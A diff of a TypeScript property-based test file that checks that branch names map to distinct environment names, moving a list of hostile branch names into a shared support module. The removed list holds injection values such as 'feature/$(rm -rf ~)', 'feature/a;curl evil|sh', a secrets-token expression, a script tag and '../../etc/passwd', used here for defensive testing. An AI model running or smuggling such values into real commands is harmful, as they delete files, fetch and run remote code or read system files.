@@ -1,48 +1,8 @@
 import * as fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { environmentNameFor } from '../../src/environment/branch-name.ts';
+import { branches, hostileBranches } from '../support/branches.ts';
 import { checkEnvironmentName, isProtected } from '../../src/environment/names.ts';
-
-const hostile = [
-  'feature/$(rm -rf ~)',
-  'feature/`id`',
-  'feature/a;curl evil|sh',
-  'feature/"quoted"',
-  "feature/it's",
-  'feature/${{ secrets.TOKEN }}',
-  'feature/<script>alert(1)</script>',
-  'feature/a\nb',
-  '--help',
-  '-x',
-  '../../etc/passwd',
-  'feature/Auth',
-  'FEATURE/AUTH',
-  'feature/auth_x',
-  'feature/auth.x',
-  'feature/auth/x',
-  'feature/機能',
-  '機能',
-  '🚀',
-  'feature/café',
-  'feature/cafe\u0301',
-  '1234',
-  'feature/1234',
-  'a'.repeat(200),
-  `feature/${'a'.repeat(200)}`,
-  `feature/${'a'.repeat(199)}b`,
-  '\ud800',
-  '\udfff',
-];
-
-/** Branch names of people, of attackers, and near misses of each other. */
-const branches = fc
-  .oneof(
-    fc.string({ unit: 'binary', minLength: 1, maxLength: 250 }),
-    fc.stringMatching(/^[a-zA-Z0-9/_.-]{1,40}$/),
-    fc.stringMatching(/^(feature|fix)[/-][a-c](-[a-c2]{1,8})?$/),
-    fc.constantFrom(...hostile),
-  )
-  .filter((branch) => !branch.startsWith('refs/'));
 
 describe('the environment of a branch', () => {
   it.each([
@@ -98,8 +58,8 @@ describe('the environment of a branch', () => {
   it('is no other branch’s', () => {
     fc.assert(
       fc.property(fc.uniqueArray(branches, { minLength: 2, maxLength: 60 }), (many) => {
-        const names = new Set([...many, ...hostile].map((branch) => environmentNameFor(branch)));
-        expect(names.size).toBe(new Set([...many, ...hostile]).size);
+        const names = new Set([...many, ...hostileBranches].map((branch) => environmentNameFor(branch)));
+        expect(names.size).toBe(new Set([...many, ...hostileBranches]).size);
       }),
       { numRuns: 500 },
     );
